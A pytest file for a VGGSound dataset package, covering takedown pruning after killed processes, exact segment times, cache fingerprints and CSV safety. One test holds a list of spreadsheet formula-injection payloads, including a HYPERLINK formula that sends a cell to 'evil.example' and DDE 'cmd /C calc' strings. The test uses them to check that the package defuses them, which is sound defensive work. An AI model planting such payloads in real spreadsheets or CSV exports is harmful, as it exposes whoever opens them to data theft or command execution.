"""Issue 19, operations: prune journals tied to their files (4), takedowns by YouTube id survive a re-export
(5), exact times in ``compare --out`` (9), spreadsheet formulas defused in every CSV we write (16), and a
cache fingerprint that sees every module of the package (18).

Real parts: exports written by ``export_dataset`` from FLACs made with soundfile, prunes killed with SIGKILL
in a child interpreter, stock ``datasets`` loading the results.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import datasets
import pyarrow.parquet as pq
import pytest
from huggingface_hub import DatasetCard
from test_publish_support import as_dict, corpus_rows, make_dataset

from avsets.core.csvsafe import safe_cell
from avsets.metadata.manifest import Manifest, compare, read_id_sets, write_segments_csv
from avsets.ops.publish.export import export_dataset
from avsets.ops.publish.sync import KILL_ENV
from avsets.ops.publish.sync_local import prune_export
from avsets.ops.publish.takedowns import (
    TAKEDOWNS_FILE,
    Removed,
    read_takedown_list,
    read_takedowns_csv,
    write_takedowns_csv,
)


def _avsets(*args: str) -> int:
    from avsets.cli.app import main

    return main(list(args))


def _ids(folder: Path, config: str) -> set[str]:
    out: set[str] = set()
    for f in sorted((folder / "data" / config).glob("*.parquet")):
        out |= set(pq.read_table(f, columns=["id"]).column("id").to_pylist())
    return out


def _card_configs(folder: Path) -> set[str]:
    data = DatasetCard((folder / "README.md").read_text()).data
    return {c["config_name"] for c in data.get("configs") or []}


def _export(rows: list[dict], config: str, out: Path, **kw) -> None:
    export_dataset(as_dict(train=make_dataset(rows, with_video=False)), "vggsound", config, str(out),
                   max_shard_size="60KB", **kw)


def _killed_prune(folder: Path, listing: Path, step: str) -> None:
    code = textwrap.dedent(f"""
        from avsets.ops.publish.sync_local import prune_export
        from avsets.ops.publish.takedowns import read_takedown_list
        prune_export({str(folder)!r}, read_takedown_list({str(listing)!r}))
    """)
    env = {**os.environ, KILL_ENV: step}
    p = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
    assert p.returncode == -9, p.stderr


@pytest.fixture(scope="module")
def two_configs(tmp_path_factory) -> dict:
    """Media for 6 clips of config ``default`` and 3 of ``astest`` (different videos)."""
    root = tmp_path_factory.mktemp("ops")
    default = corpus_rows(root / "media", 6, seconds=1.0)
    astest = corpus_rows(root / "media", 3, split="astest", seconds=1.0)
    return {"root": root, "default": default, "astest": astest}


def _fresh_export(two_configs: dict, out: Path) -> Path:
    _export(two_configs["default"], "default", out)
    return out


@pytest.mark.parametrize("step", ["journal", "moved"])
def test_export_after_a_killed_prune_finishes_it_first(two_configs, tmp_path, step):
    """Item 4: prune killed after its journal, then an ``export`` of another config, then a prune: the
    export finishes the journal first, so the other config stays on the card (stock ``datasets`` loads it)
    and the listed clips are gone."""
    out = _fresh_export(two_configs, tmp_path / "export")
    gone = two_configs["default"][1]["id"]
    listing = tmp_path / "takedowns.csv"
    listing.write_text(f"id,reason\n{gone},owner asked\n")
    _killed_prune(out, listing, step)
    assert (out / ".avsets" / "sync" / "journal.json").is_file()
    _export(two_configs["astest"], "astest", out)
    assert not (out / ".avsets" / "sync").exists()
    plan = prune_export(out, read_takedown_list(listing))
    assert not plan.changes and plan.finished_interrupted is None
    assert _card_configs(out) == {"default", "astest"}
    assert gone not in _ids(out, "default")
    assert {r.id for r in read_takedowns_csv((out / TAKEDOWNS_FILE).read_bytes())} == {gone}
    for cfg, n in (("default", 5), ("astest", 3)):
        ds = datasets.load_dataset(str(out), cfg, split="train", cache_dir=str(tmp_path / "cache"))
        assert len(ds) == n and gone not in ds["id"]


@pytest.mark.parametrize("changed", ["README.md", TAKEDOWNS_FILE])
def test_a_stale_journal_is_never_replayed(two_configs, tmp_path, changed):
    """Item 4: files changed behind a journal's back (an older avsets' export, a hand edit): the journal no
    longer fits and is discarded, never replayed over them; the rerun prunes from the folder as it is."""
    out = _fresh_export(two_configs, tmp_path / "export")
    gone = two_configs["default"][2]["id"]
    listing = tmp_path / "takedowns.csv"
    listing.write_text(f"id\n{gone}\n")
    _killed_prune(out, listing, "journal")
    if changed == "README.md":  # what an export of another config without journal support did
        shutil.copytree(out, tmp_path / "save")
        _export_without_honouring(two_configs, out)
        marker = None
    elif changed == TAKEDOWNS_FILE:
        marker = "id,youtube_id,config,split,date,reason\nother_0_1000,other,default,train,2026-01-01,x\n"
        (out / TAKEDOWNS_FILE).write_text(marker)
    else:
        marker = None
        shard = next(f for f in sorted((out / "data" / "default").glob("*.parquet"))
                     if gone in pq.read_table(f, columns=["id"]).column("id").to_pylist())
        t = pq.read_table(shard)
        pq.write_table(t, shard, compression="gzip")  # the same rows, rewritten (another tool, a re-export)
    assert _avsets("export", "--prune", "--out", str(out), "--takedowns", str(listing)) == 0
    assert not (out / ".avsets" / "sync").exists()
    if changed == "README.md":
        assert _card_configs(out) == {"default", "astest"}  # the replay would have dropped astest
    if marker is not None:
        assert "other_0_1000" in (out / TAKEDOWNS_FILE).read_text()  # a replay would have overwritten it
    assert gone not in _ids(out, "default")


def _export_without_honouring(two_configs: dict, out: Path) -> None:
    """An export of ``astest`` that ignores the journal (the bug's sequence; what avsets < round 3 did)."""
    journal = out / ".avsets" / "sync"
    hidden = out.parent / "hidden-sync"
    journal.rename(hidden)
    try:
        _export(two_configs["astest"], "astest", out)
    finally:
        hidden.rename(journal)


def test_rerun_after_a_killed_prune_says_it_finished_it(two_configs, tmp_path, capsys):
    out = _fresh_export(two_configs, tmp_path / "export")
    gone = two_configs["default"][0]["id"]
    listing = tmp_path / "t.csv"
    listing.write_text(f"{gone}\n")
    _killed_prune(out, listing, "journal")
    capsys.readouterr()
    assert _avsets("export", "--prune", "--out", str(out), "--takedowns", str(listing)) == 0
    text = capsys.readouterr().out
    assert "finished the interrupted prune" in text and "1 row(s) removed then" in text
    assert gone not in _ids(out, "default")


def test_takedown_by_youtube_id_survives_overwrite_when_new_segments_arrive(two_configs, tmp_path):
    """Item 5: a video taken down by YouTube id stays out of ``export --overwrite`` although media for another
    segment of it arrived after the prune; a clip-id takedown leaves the video's other clips in."""
    media = tmp_path / "media"
    rows = corpus_rows(media, 4, seconds=1.0)
    video, clip_only = rows[0]["youtube_id"], rows[1]
    later = [dict(rows[0], id=f"{video}_5000_6000", start=5.0, end=6.0,
                  audio={"bytes": None, "path": str(media / f"{video}_5000_6000.flac")}),
             dict(clip_only, id=f"{clip_only['youtube_id']}_5000_6000", start=5.0, end=6.0,
                  audio={"bytes": None, "path": str(media / f"{clip_only['youtube_id']}_5000_6000.flac")})]
    out = tmp_path / "export"
    # first export: the later segments have no media yet (rows kept, counted as without media)
    _export(rows + [dict(r, audio=None) for r in later], "default", out)
    assert _ids(out, "default") == {r["id"] for r in rows}
    listing = tmp_path / "t.csv"
    listing.write_text(f"id,reason\n{video},owner asked\n{clip_only['id']},one clip\n")
    assert _avsets("export", "--prune", "--out", str(out), "--takedowns", str(listing)) == 0
    assert _ids(out, "default") == {r["id"] for r in rows[2:]}
    for r in later:  # media for the other segments arrives
        shutil.copyfile(rows[0]["audio"]["path"], r["audio"]["path"])
    _export(rows + later, "default", out, overwrite=True)
    assert _ids(out, "default") == {r["id"] for r in rows[2:]} | {later[1]["id"]}
    listed = {r.id: r for r in read_takedowns_csv((out / TAKEDOWNS_FILE).read_bytes())}
    assert listed[rows[0]["id"]].whole_video and not listed[clip_only["id"]].whole_video


@pytest.mark.parametrize("start_ms,end_ms", [(1234567, 1244567), (100000250, 100010250), (0, 10000),
                                             (999999001, 999999999), (1, 2)])
def test_compare_out_writes_times_that_name_the_same_segment(tmp_path, start_ms, end_ms, monkeypatch):
    """Item 9: ``compare --out`` times read back (by fetch and by ``read_id_sets``) name exactly the ids'
    segments, at any magnitude; fetch reads the id first and warns when the columns disagree."""
    from avsets.ops.fetch.corpus import file_requests

    clip = f"-abcdefghij_{start_ms}_{end_ms}"  # a YouTube id starting with "-" stays as it is
    path = tmp_path / "both.csv"
    assert write_segments_csv({"test": [clip]}, path) == 1
    (req,) = list(file_requests(str(path)))
    assert req.segment.key == clip
    assert read_id_sets(path).all_ids() == {clip}
    row = next(csv.DictReader(io.StringIO(path.read_text())))
    assert round(float(row["start"]) * 1000) == start_ms and round(float(row["end"]) * 1000) == end_ms
    # a CSV written by the old %g: the id wins, and the disagreement is named
    path.write_text(f"id,youtube_id,start,end\n{clip},-abcdefghij,{start_ms / 1000:g},{end_ms / 1000:g}\n")
    (req,) = list(file_requests(str(path)))
    assert req.segment.key == clip


def test_compare_cli_out_round_trips(tmp_path, capsys):
    ids = ["abcdefghijk_100000250_100010250", "abcdefghijk_1234567_1244567"]
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    Manifest({"test": ids}).write(a)
    Manifest({"test": ids + ["zzzzzzzzzzz_0_10000"]}).write(b)
    out = tmp_path / "both.csv"
    assert _avsets("compare", str(a), str(b), "--out", str(out)) == 0
    from avsets.ops.fetch.corpus import file_requests

    assert sorted(r.segment.key for r in file_requests(str(out))) == sorted(ids)
    assert compare(read_id_sets(out), read_id_sets(a)).splits[0].only_a == []


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_csv_we_write_starts_a_cell_with_a_formula(tmp_path, payload):
    """Item 16: takedowns.csv (reason from a takedown list), the segments CSV, verify's missing CSV and the
    report's tables: no cell a spreadsheet would evaluate; ids (even ``-``-led YouTube ids) unchanged."""
    from avsets.ops.verify import SplitCoverage, write_missing_csv

    listing = tmp_path / "t.csv"
    with open(listing, "w", newline="") as f:
        csv.writer(f).writerows([["id", "reason"], ["-abcdefghij_0_1000", payload]])
    td = read_takedown_list(listing)["-abcdefghij_0_1000"]
    data = write_takedowns_csv([Removed(td.key, "-abcdefghij", "default", "train", td.date, td.reason, td.key)])
    cov = SplitCoverage("train", rows=1, found=1, missing=0, corrupt=1)
    cov.corrupt_ids.append(("-abcdefghij_0_1000", "x.flac", payload))
    write_missing_csv([cov], tmp_path / "m.csv", ledger={"-abcdefghij_0_1000": ("error", payload)})
    write_segments_csv({payload: ["-abcdefghij_0_1000"]}, tmp_path / "s.csv")
    for text in (data.decode(), (tmp_path / "m.csv").read_text(), (tmp_path / "s.csv").read_text()):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "-abcdefghij_0_1000" in cells
        bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "\uff1d") or
               (c[:1] == "-" and c != "-abcdefghij_0_1000" and c != "-abcdefghij")]
        assert not bad, bad
    # idempotent: a sync that reads takedowns.csv back and writes it again adds no second quote
    again = write_takedowns_csv(read_takedowns_csv(data))
    assert again == data


def test_safe_cell_leaves_data_alone():
    for v in ("-vggAAAAAA0_1000_11000", "-1.5", "+49 30 1234", "dog barking", "", "a=b", "2026-01-01"):
        assert safe_cell(v) == v
    assert safe_cell(5) == 5 and safe_cell(None) is None
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("'=1+1") == "'=1+1"


def test_cache_fingerprint_sees_subpackages(tmp_path, monkeypatch):
    """Item 18: editing ``sources/keys.py`` (the naming rules that decide cached paths) changes the cache
    fingerprint, like an edit of a top-level module does."""
    import avsets
    import avsets.build.api as api
    from avsets.vggsound.vggsound import VGGSound

    pkg = tmp_path / "avsets"
    shutil.copytree(os.path.dirname(avsets.__file__), pkg, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(api, "__file__", str(pkg / "build" / "api.py"))
    before = api._source_hash(VGGSound)
    keys = pkg / "media" / "sources" / "keys.py"
    keys.write_text(keys.read_text() + "\n# a naming rule changed\n")
    after = api._source_hash(VGGSound)
    assert before != after
    (pkg / "media" / "sources" / "new_rule.py").write_text("X = 1\n")
    assert api._source_hash(VGGSound) not in (before, after)
    json.dumps(before)  # a plain string


def test_a_missing_http_client_is_a_named_error_not_missing_media(tmp_path):
    """Item 17: with the HTTP client library unimportable, a remote ``media_dir`` is a ``MissingDependencyError``
    naming the package (map-style and the CLI, exit 2), never "N rows have no media"."""
    code = textwrap.dedent("""
        import sys
        sys.modules["aiohttp"] = None  # what a plain install without fsspec[http] had
        import avsets
        from avsets.core.errors import MissingDependencyError
        try:
            avsets.load_dataset("vggsound", data_dir=sys.argv[1], media_dir="http://127.0.0.1:9/clips.zip",
                                split="train", cache_dir=sys.argv[2])
        except MissingDependencyError as e:
            assert "fsspec[http]" in str(e), e
            print("named")
        from avsets.cli.app import main
        sys.exit(main(["verify", "vggsound", "--data-dir", sys.argv[1], "--media-dir",
                       "http://127.0.0.1:9/clips.zip"]))
    """)
    from avsets.ops.demo import sample_data_dir

    p = subprocess.run([sys.executable, "-c", code, sample_data_dir(), str(tmp_path)], capture_output=True,
                       text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
    assert p.stdout.strip() == "named", p.stderr[-2000:]
    assert p.returncode == 2 and "pip install 'fsspec[http]'" in p.stderr
    assert "have no media" not in p.stderr and "Traceback" not in p.stderr


@pytest.mark.slow
def test_core_install_check_script_runs():
    """The script ``.ci/run`` runs in a core-only venv reads the loopback zip mirror here too."""
    script = Path(__file__).with_name("core_install_check.py")
    p = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stdout + p.stderr
    assert "core install reads a remote mirror: yes" in p.stdout


@pytest.mark.parametrize("content,expect", [
    (b"abcdefghijk\nzzz,03/01/2026,x\n", "line 2"),
    ("id,reason\nabcdefghijk,caf\u00e9\n".encode("latin-1"), "UTF-8"),
    (b"date,reason\n2026-01-01,x\n", "no id column"),
    (b"id,date\n,2026-01-01\n", "empty id"),
])
def test_takedown_list_errors_name_the_file_and_speak_of_takedowns(tmp_path, content, expect):
    """Friction: prune's messages are about takedown lists (not the metadata loader's "errors='skip'" or
    "unmodified upstream file"); a non-UTF-8 list names the file and line instead of a bare codec error."""
    from avsets.ops.publish.takedowns import TakedownListError

    f = tmp_path / "list.csv"
    f.write_bytes(content)
    with pytest.raises(TakedownListError) as e:
        read_takedown_list(f)
    text = str(e.value)
    assert str(f) in text and expect in text, text
    assert "errors=" not in text and "upstream" not in text


@pytest.mark.slow
def test_push_of_a_never_pruned_export_honours_the_hubs_takedowns(two_configs, tmp_path):
    """Friction: ``push --from`` of an export that was never pruned does not publish again what the Hub's
    ``takedowns.csv`` lists (a clip and a whole video): the folder is pruned first, the Hub's record kept;
    ``-q`` (and a pipe) shows none of the Hub client's upload bars."""
    from hub_server import HubServer
    from ux_support import cli_env, run_cli

    out = _fresh_export(two_configs, tmp_path / "export")
    rows = two_configs["default"]
    listing = tmp_path / "t.csv"
    listing.write_text(f"id,reason\n{rows[0]['id']},asked\n{rows[1]['youtube_id']},video gone\n")
    with HubServer() as hub:
        env = cli_env(HF_ENDPOINT=hub.url, HF_TOKEN="hf_" + "x" * 30, HF_HOME=str(tmp_path / "hf"),
                      HF_HUB_DISABLE_XET="1")
        assert run_cli("push", "--from", str(out), "--repo-id", "org/td", "-q", env=env).returncode == 0
        p = run_cli("push", "--sync", "--repo-id", "org/td", "--takedowns", str(listing), env=env)
        assert p.returncode == 0, p.stderr[-2000:]
        p = run_cli("push", "--from", str(out), "--repo-id", "org/td", "-q", env=env)
        assert p.returncode == 0, p.stderr[-2000:]
        assert "pruned 2 clip(s) listed in the Hub's takedowns.csv" in p.stdout, p.stdout
        assert "%|" not in p.stderr and "\r" not in p.stderr
        files = hub.files("org/td")
    held = set()
    for path, data in files.items():
        if path.startswith("data/default/"):
            held |= set(pq.read_table(io.BytesIO(data), columns=["id"]).column("id").to_pylist())
    assert held == {r["id"] for r in rows[2:]}
    listed = {r.id for r in read_takedowns_csv(files[TAKEDOWNS_FILE])}
    assert listed == {rows[0]["id"], rows[1]["id"]}


def test_a_row_whose_video_fails_but_audio_decodes_is_kept_in_both_modes(tmp_path, monkeypatch, vgg_sample_dir):
    """Friction: one rule. ``num_frames`` refused by the memory cap fails the video of an mp4 whose audio
    decodes: map-style and streaming both keep the row with ``video=None`` and the audio array; a row none of
    whose media decodes is still dropped in streaming (``skip``) and counted."""
    import avsets
    import avsets.media.decoding
    from avsets.build.transform import DECODE_STATS
    from avsets.media.synth import write_video
    from avsets.vggsound.metadata import label_list

    meta, media = tmp_path / "meta", tmp_path / "media"
    meta.mkdir()
    media.mkdir()
    shutil.copy(Path(vgg_sample_dir) / "stat.csv", meta / "stat.csv")
    name = label_list("default")[0]
    (meta / "vggsound.csv").write_text(f'goodvideo01,0,"{name}",train\nbrokenvid02,0,"{name}",train\n')
    write_video(media / "goodvideo01_000000.mp4", seconds=10.0, size=(32, 24))
    (media / "brokenvid02_000000.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42" + b"not media" * 200)
    monkeypatch.setattr(avsets.media.decoding.video, "MAX_VIDEO_BYTES", 10_000)  # 50 frames of 32x24 RGB exceed it
    kw = dict(split="train", data_dir=str(meta), media_dir=str(media), num_frames=50, on_missing="skip")
    with pytest.warns(avsets.MediaWarning):
        mapped = avsets.load_dataset("vggsound", cache_dir=str(tmp_path / "c"), **kw)
        by_id = {r["id"]: r for r in mapped}
    DECODE_STATS.reset()
    with pytest.warns(avsets.MediaWarning):
        streamed = {r["id"]: r for r in avsets.load_dataset("vggsound", streaming=True, **kw)}
    good = "goodvideo01_0_10000"
    for rows in (by_id, streamed):
        assert rows[good]["video"] is None and rows[good]["audio"]["array"].size > 0
    assert "brokenvid02_0_10000" not in streamed and DECODE_STATS.counts["dropped"] == 1


def test_decode_stats_count_streaming_rows_dropped_for_missing_media(tmp_path, vgg_sample_dir):
    """Friction: ``DECODE_STATS.dropped`` counts the streaming rows left out because their media is missing
    (``on_missing="skip"``), per epoch, as the README says; map-style prepare counts nothing there."""
    import avsets
    from avsets.build.transform import DECODE_STATS
    from avsets.media.synth import write_audio
    from avsets.vggsound.metadata import label_list

    meta, media = tmp_path / "meta", tmp_path / "media"
    meta.mkdir()
    media.mkdir()
    shutil.copy(Path(vgg_sample_dir) / "stat.csv", meta / "stat.csv")
    name = label_list("default")[0]
    (meta / "vggsound.csv").write_text("".join(f'clip{i:07d},0,"{name}",train\n' for i in range(5)))
    for i in (0, 2):
        write_audio(media / f"clip{i:07d}_000000.flac", seconds=10.0)
    DECODE_STATS.reset()
    ds = avsets.load_dataset("vggsound", split="train", data_dir=str(meta), media_dir=str(media), streaming=True)
    for _epoch in range(2):
        assert sum(1 for _ in ds) == 2
    assert DECODE_STATS.counts["dropped"] == 6
    DECODE_STATS.reset()
    assert len(avsets.load_dataset("vggsound", split="train", data_dir=str(meta), media_dir=str(media),
                                   cache_dir=str(tmp_path / "c"))) == 2
    assert DECODE_STATS.counts["dropped"] == 0
